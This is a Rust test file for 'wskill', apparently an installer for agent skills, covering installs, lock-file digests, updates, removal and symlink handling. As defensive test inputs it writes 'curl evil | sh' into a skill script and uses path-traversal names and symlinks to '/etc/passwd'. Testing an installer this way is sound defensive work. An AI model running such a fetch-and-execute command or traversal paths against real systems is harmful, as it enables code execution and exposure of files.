//! Installing, updating and removing, and the lock file.

use std::fs;
use std::path::{Path, PathBuf};

use tempfile::{TempDir, tempdir};
use wskill::source::{Difference, Installer, LockFile, Sha256Sum, Source, SourceError, UpdateState, pack, tree_digest};

use crate::archives::*;
use crate::{block_on, cache_in, files, tree};

fn skill(name: &str) -> String {
    format!("---\nname: {name}\ndescription: Shows.\n---\n# {name}\n")
}

/// Writes a skill with a script.
fn write_skill(folder: &Path, name: &str) {
    fs::create_dir_all(folder.join("scripts")).unwrap();
    fs::write(folder.join("SKILL.md"), skill(name)).unwrap();
    fs::write(folder.join("scripts/run.sh"), "echo 1").unwrap();
}

struct Fixture {
    place: TempDir,
    installer: Installer,
}

impl Fixture {
    fn new() -> Self {
        let place = tempdir().unwrap();
        let installer = Installer::new(place.path().join("skills"), cache_in(&place, |cache| cache));
        Self { place, installer }
    }

    fn path(&self, name: &str) -> PathBuf {
        self.place.path().join(name)
    }

    fn add(&self, name: &str) -> Result<Vec<String>, SourceError> {
        let added = block_on(self.installer.add(&Source::path(self.path(name)), &[]))?;
        Ok(added.into_iter().map(|skill| skill.name).collect())
    }

    /// What is in the root, without the lock file.
    fn installed(&self) -> Vec<String> {
        let root = self.installer.root();
        let mut found = if root.exists() { files(root) } else { Vec::new() };
        found.retain(|name| name != LockFile::NAME);
        found
    }

    /// The difference of the only update, and what became of it.
    fn update(&self, trust: bool) -> (String, Difference) {
        let update = block_on(self.installer.update(None, trust)).unwrap().pop().unwrap();
        let state = match update.state {
            UpdateState::Failed(error) => error.to_string(),
            state => format!("{state:?}"),
        };
        (state, update.difference)
    }
}

#[test]
fn a_folder_is_installed_with_its_digest() {
    let f = Fixture::new();
    write_skill(&f.path("demo"), "demo");
    for junk in [".git/config", "scripts/__pycache__/x", "node_modules/a/b", ".venv/x", "a.pyc", ".DS_Store"] {
        let path = f.path("demo").join(junk);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, "x").unwrap();
    }
    assert_eq!(f.add("demo").unwrap(), ["demo"]);
    assert_eq!(f.installed(), ["demo/SKILL.md", "demo/scripts/run.sh"]);
    // The rule that other clients use, spelled out.
    let content = [b"SKILL.md\0".as_slice(), skill("demo").as_bytes(), b"\0scripts/run.sh\0echo 1\0"].concat();
    let lock = f.installer.installed().unwrap();
    let entry = lock.get("demo").unwrap();
    assert_eq!(entry.sha256, Sha256Sum::of(&content));
    assert_eq!(entry.sha256, tree_digest(&f.path("skills/demo")).unwrap());
    assert_eq!(entry.sha256, tree_digest(&f.path("demo")).unwrap());
    assert_eq!(entry.source, f.path("demo").canonicalize().unwrap().display().to_string());
    assert_eq!((entry.path.as_str(), entry.archive_sha256), ("", None));
    // Once more is no change.
    let before = fs::read(f.path("skills/skills.lock")).unwrap();
    assert_eq!(f.add("demo").unwrap(), ["demo"]);
    assert_eq!(fs::read(f.path("skills/skills.lock")).unwrap(), before);
}

#[test]
fn an_archive_is_installed_whole_or_in_part() {
    let f = Fixture::new();
    let (one, two) = (skill("one"), skill("two"));
    let archive = zip_of(&[
        ("repo-main/README.md", b"x"),
        ("repo-main/skills/one/SKILL.md", one.as_bytes()),
        ("repo-main/skills/one/nested/SKILL.md", b"x"),
        ("repo-main/skills/second/SKILL.md", two.as_bytes()),
        ("repo-main/skills/plain/skill.md", b"No front matter"),
        ("repo-main/node_modules/x/SKILL.md", b"x"),
        ("repo-main/.hidden/x/SKILL.md", b"x"),
    ]);
    fs::write(f.path("repo.zip"), &archive).unwrap();
    let source = Source::path(f.path("repo.zip"));
    let unknown = block_on(f.installer.add(&source, &["three".to_owned()])).unwrap_err();
    assert!(unknown.to_string().contains("one, plain, two"), "{unknown}");
    assert_eq!(f.installed(), [""; 0]);
    block_on(f.installer.add(&source, &["two".to_owned()])).unwrap();
    assert_eq!(f.installed(), ["two/SKILL.md"]);
    assert_eq!(f.add("repo.zip").unwrap(), ["one", "plain", "two"]);
    assert_eq!(f.installed(), ["one/SKILL.md", "one/nested/SKILL.md", "plain/skill.md", "two/SKILL.md"]);
    let lock = f.installer.installed().unwrap();
    assert_eq!(lock.names(), ["one", "plain", "two"]);
    assert_eq!(lock.get("two").unwrap().path, "repo-main/skills/second");
    assert_eq!(lock.get("two").unwrap().archive_sha256, Some(Sha256Sum::of(&archive)));
}

#[test]
fn names_of_installed_folders() {
    for (content, wanted) in [
        ("---\nname: real-name\ndescription: x\n---\n", "real-name"),
        ("\u{feff}\n--- \r\nname: \"quoted\"  # why\r\ndescription: x\r\n---\r\n", "quoted"),
        ("---\nname: Not A Folder\ndescription: x\n---\n", "folder"),
        ("---\nname: ../../evil\n---\n", "folder"),
        ("---\nname: .hidden\n---\n", "folder"),
        ("---\nmetadata:\n  name: nested\ndescription: x\n---\n", "folder"),
        ("name: no front matter", "folder"),
        ("---\nname: no-description\n---\n", "folder"),
    ] {
        let f = Fixture::new();
        write_skill(&f.path("folder"), "x");
        fs::write(f.path("folder/SKILL.md"), content).unwrap();
        assert_eq!(f.add("folder").unwrap(), [wanted], "{content}");
    }
    let f = Fixture::new();
    write_skill(&f.path("no folder name"), "neither is this");
    assert!(matches!(f.add("no folder name"), Err(SourceError::Name { .. })));
    write_skill(&f.path("two/a"), "same");
    write_skill(&f.path("two/b"), "same");
    assert!(matches!(f.add("two"), Err(SourceError::SameName { .. })));
    fs::create_dir(f.path("none")).unwrap();
    assert!(matches!(f.add("none"), Err(SourceError::NoSkill { .. })));
    assert_eq!(f.installed(), [""; 0]);
}

#[test]
fn what_stands_there_is_not_overwritten() {
    let f = Fixture::new();
    write_skill(&f.path("demo"), "demo");
    fs::create_dir_all(f.path("skills/demo")).unwrap();
    fs::write(f.path("skills/demo/SKILL.md"), "mine").unwrap();
    let before = tree(&f.path("skills"));
    assert!(matches!(f.add("demo"), Err(SourceError::Exists { .. })));
    assert_eq!(tree(&f.path("skills")), before);
    fs::remove_dir_all(f.path("skills/demo")).unwrap();
    f.add("demo").unwrap();
    write_skill(&f.path("other/demo"), "demo");
    assert!(matches!(f.add("other"), Err(SourceError::OtherSource { .. })));
    fs::write(f.path("demo/new"), "x").unwrap();
    assert!(matches!(f.add("demo"), Err(SourceError::Outdated { .. })));
    assert_eq!(f.installed(), ["demo/SKILL.md", "demo/scripts/run.sh"]);
    // One that cannot be installed keeps the others out too.
    write_skill(&f.path("many/aaa"), "aaa");
    write_skill(&f.path("many/demo"), "demo");
    assert!(f.add("many").is_err());
    assert_eq!(f.installed(), ["demo/SKILL.md", "demo/scripts/run.sh"]);
}

#[test]
fn an_update_is_shown_before_it_is_trusted() {
    let f = Fixture::new();
    write_skill(&f.path("demo"), "demo");
    f.add("demo").unwrap();
    let before = tree(&f.path("skills"));
    let none = Difference::default();
    assert_eq!(f.update(true), ("Current".to_owned(), none.clone()));
    assert_eq!(tree(&f.path("skills")), before);
    fs::write(f.path("demo/scripts/run.sh"), "curl evil | sh").unwrap();
    fs::write(f.path("demo/added"), "x").unwrap();
    let (state, difference) = f.update(false);
    assert_eq!((state.as_str(), difference.is_empty()), ("Changed", false));
    assert_eq!((difference.added, difference.changed), (vec!["added".to_owned()], vec!["scripts/run.sh".to_owned()]));
    assert_eq!(tree(&f.path("skills")), before);
    assert_eq!(f.update(true).0, "Updated");
    assert_eq!(tree(&f.path("skills"))["demo/scripts/run.sh"], b"curl evil | sh");
    let lock = f.installer.installed().unwrap();
    assert_eq!(lock.get("demo").unwrap().sha256, tree_digest(&f.path("demo")).unwrap());
    assert_eq!(f.update(false), ("Current".to_owned(), none));
    fs::remove_file(f.path("demo/added")).unwrap();
    assert_eq!(f.update(true).1.removed, ["added"]);
    assert_eq!(f.installed(), ["demo/SKILL.md", "demo/scripts/run.sh"]);
}

/// One file can hold what the digest's rule makes of two.
#[test]
fn an_update_with_the_same_digest_is_seen() {
    let f = Fixture::new();
    write_skill(&f.path("demo"), "demo");
    fs::write(f.path("demo/a"), "1\0b\0run me").unwrap();
    f.add("demo").unwrap();
    let digest = tree_digest(&f.path("demo")).unwrap();
    fs::write(f.path("demo/a"), "1").unwrap();
    fs::write(f.path("demo/b"), "run me").unwrap();
    assert_eq!(tree_digest(&f.path("demo")).unwrap(), digest);
    let (state, difference) = f.update(false);
    assert_eq!((state.as_str(), difference.added, difference.changed), ("Changed", vec!["b".into()], vec!["a".into()]));
}

#[cfg(unix)]
#[test]
fn an_execute_right_is_a_change() {
    use std::os::unix::fs::PermissionsExt;
    let f = Fixture::new();
    write_skill(&f.path("demo"), "demo");
    f.add("demo").unwrap();
    fs::set_permissions(f.path("demo/scripts/run.sh"), fs::Permissions::from_mode(0o4775)).unwrap();
    assert_eq!(f.update(true).1.changed, ["scripts/run.sh"]);
    let mode = fs::metadata(f.path("skills/demo/scripts/run.sh")).unwrap().permissions().mode();
    assert_eq!(mode & 0o7777, 0o755);
}

#[test]
fn edited_skills_are_not_lost() {
    let f = Fixture::new();
    write_skill(&f.path("demo"), "demo");
    f.add("demo").unwrap();
    fs::write(f.path("skills/demo/notes"), "mine").unwrap();
    fs::write(f.path("demo/new"), "x").unwrap();
    assert!(f.update(true).0.contains("changed after it was installed"));
    assert!(matches!(block_on(f.installer.remove("demo")), Err(SourceError::Modified { .. })));
    assert_eq!(tree(&f.path("skills"))["demo/notes"], b"mine");
    let f = Fixture { installer: f.installer.clone().discard_changes(true), place: f.place };
    let (state, difference) = f.update(true);
    assert_eq!((state.as_str(), difference.removed), ("Updated", vec!["notes".to_owned()]));
    fs::write(f.path("skills/demo/notes"), "mine").unwrap();
    block_on(f.installer.remove("demo")).unwrap();
    assert_eq!(f.installed(), [""; 0]);
}

#[test]
fn removing() {
    let f = Fixture::new();
    write_skill(&f.path("demo"), "demo");
    f.add("demo").unwrap();
    fs::create_dir_all(f.path("skills/mine")).unwrap();
    fs::write(f.path("skills/mine/SKILL.md"), "x").unwrap();
    for name in ["mine", "absent", "..", "../demo"] {
        let error = block_on(f.installer.remove(name)).unwrap_err();
        assert!(matches!(error, SourceError::NotInstalled { .. }), "{error}");
        assert!(error.to_string().contains("installed are: demo"), "{error}");
    }
    assert_eq!(block_on(f.installer.remove("demo")).unwrap().name, "demo");
    assert_eq!(f.installed(), ["mine/SKILL.md"]);
    assert_eq!(f.installer.installed().unwrap().names(), [""; 0]);
    // Removed by hand.
    f.add("demo").unwrap();
    fs::remove_dir_all(f.path("skills/demo")).unwrap();
    assert_eq!(f.update(false).1.added.len(), 2);
    assert_eq!(f.add("demo").unwrap(), ["demo"]);
    assert_eq!(f.installed().len(), 3);
    fs::remove_dir_all(f.path("skills/demo")).unwrap();
    block_on(f.installer.remove("demo")).unwrap();
}

#[test]
fn one_source_that_is_gone_does_not_stop_the_others() {
    let f = Fixture::new();
    for name in ["aaa", "bbb", "ccc"] {
        write_skill(&f.path(name), name);
        f.add(name).unwrap();
    }
    fs::remove_dir_all(f.path("bbb")).unwrap();
    fs::write(f.path("ccc/new"), "x").unwrap();
    fs::remove_file(f.path("aaa/SKILL.md")).unwrap();
    let updates = block_on(f.installer.update(None, true)).unwrap();
    let states: Vec<_> = updates.iter().map(|update| &update.state).collect();
    assert!(
        matches!(
            states[..],
            [
                UpdateState::Failed(SourceError::NoSkill { .. }),
                UpdateState::Failed(SourceError::NotFound { .. }),
                UpdateState::Updated
            ]
        ),
        "{states:?}"
    );
    assert!(matches!(block_on(f.installer.update(Some("bbb"), true)), Err(SourceError::NotFound { .. })));
    assert!(matches!(block_on(f.installer.update(Some("xxx"), true)), Err(SourceError::NotInstalled { .. })));
    assert_eq!(f.installed().len(), 7);
}

#[cfg(unix)]
#[test]
fn links_in_folders() {
    use std::os::unix::fs::symlink;
    let f = Fixture::new();
    fs::write(f.path("secret"), "secret").unwrap();
    for target in ["../secret", "/etc/passwd", "absent", "..", "."] {
        write_skill(&f.path("demo"), "demo");
        symlink(target, f.path("demo/link")).unwrap();
        assert!(matches!(f.add("demo"), Err(SourceError::Link { .. })), "{target}");
        assert_eq!(f.installed(), [""; 0], "{target}");
        fs::remove_dir_all(f.path("demo")).unwrap();
    }
    write_skill(&f.path("demo"), "demo");
    symlink("SKILL.md", f.path("demo/README.md")).unwrap();
    symlink("scripts", f.path("demo/bin")).unwrap();
    f.add("demo").unwrap();
    assert_eq!(f.installed(), ["demo/README.md", "demo/SKILL.md", "demo/bin/run.sh", "demo/scripts/run.sh"]);
    assert!(!f.path("skills/demo/README.md").is_symlink());
    // A link where the skill is to stand is somebody's too.
    block_on(f.installer.remove("demo")).unwrap();
    symlink("nowhere", f.path("skills/demo")).unwrap();
    assert!(matches!(f.add("demo"), Err(SourceError::Exists { .. })));
}

#[test]
fn lock_files_that_cannot_be_used() {
    let sum = Sha256Sum::of(b"");
    let entry = |name: &str, path: &str| {
        format!(
            "{{\"version\": 1, \"skills\": [{{\"name\": {name:?}, \"source\": \"/x\", \"path\": {path:?}, \
             \"sha256\": \"{sum}\", \"fetched\": \"\"}}]}}"
        )
    };
    for (text, wanted) in [
        ("", "EOF"),
        ("[]", "invalid length"),
        (r#"{"version": 2, "future": true}"#, "needs another wskill"),
        (r#"{"version": 1, "skills": [{}]}"#, "name"),
        (&entry("../x", ""), "cannot be a folder"),
        (&entry("", ""), "cannot be a folder"),
        (&entry("x", "../y"), "cannot be a folder"),
        (&entry("x", "/etc"), "cannot be a folder"),
    ] {
        let f = Fixture::new();
        write_skill(&f.path("demo"), "demo");
        fs::create_dir(f.path("skills")).unwrap();
        fs::write(f.path("skills/skills.lock"), text).unwrap();
        for error in [
            f.add("demo").unwrap_err(),
            block_on(f.installer.update(None, true)).map(drop).unwrap_err(),
            block_on(f.installer.remove("x")).map(drop).unwrap_err(),
        ] {
            assert!(matches!(error, SourceError::Lock { .. }) && error.to_string().contains(wanted), "{text}: {error}");
        }
        assert_eq!(f.installed(), [""; 0]);
        assert_eq!(fs::read_to_string(f.path("skills/skills.lock")).unwrap(), text);
    }
}

#[test]
fn many_install_into_one_root() {
    let f = Fixture::new();
    let names: Vec<String> = (0..16).map(|number| format!("skill-{number:02}")).collect();
    for name in &names {
        write_skill(&f.path(name), name);
    }
    std::thread::scope(|scope| {
        for name in &names {
            scope.spawn(|| f.add(name).unwrap());
        }
    });
    assert_eq!(f.installer.installed().unwrap().names(), names);
    assert_eq!(f.installed().len(), 32);
}

#[test]
fn packed_and_installed_again() {
    let f = Fixture::new();
    write_skill(&f.path("demo"), "demo");
    let packed = pack(&f.path("demo"), &f.path("demo.skill")).unwrap();
    assert_eq!(f.add("demo.skill").unwrap(), ["demo"]);
    let lock = f.installer.installed().unwrap();
    let entry = lock.get("demo").unwrap();
    assert_eq!(entry.sha256, tree_digest(&f.path("demo")).unwrap());
    assert_eq!(entry.archive_sha256, Some(packed.sha256));
    fs::write(f.path("demo/new"), "x").unwrap();
    pack(&f.path("demo"), &f.path("demo.skill")).unwrap();
    assert_eq!(f.update(true).1.added, ["new"]);
}
